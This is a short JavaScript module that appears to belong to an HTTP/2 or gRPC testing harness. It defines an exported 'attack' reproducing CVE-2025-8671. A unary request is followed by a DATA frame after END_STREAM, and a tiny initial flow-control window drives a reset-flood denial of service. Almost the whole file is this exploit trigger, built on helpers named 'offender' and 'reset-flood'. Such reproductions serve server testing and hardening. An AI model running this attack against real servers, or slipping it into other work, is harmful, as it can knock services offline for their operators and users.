import { data, framed, unary } from './call.js';
import { greetingWith } from './offender.js';
import { resetFlood } from './reset-flood.js';

const INITIAL_WINDOW_SIZE = 4;
const more = framed(Buffer.alloc(0));

/** CVE-2025-8671: DATA behind END_STREAM, while the answer waits for a window. */
export const attack = resetFlood(
  'made you reset: DATA after the end',
  (id) => Buffer.concat([unary(id, 100), data(id, more)]),
  { greeting: greetingWith([INITIAL_WINDOW_SIZE, 0]) },
);
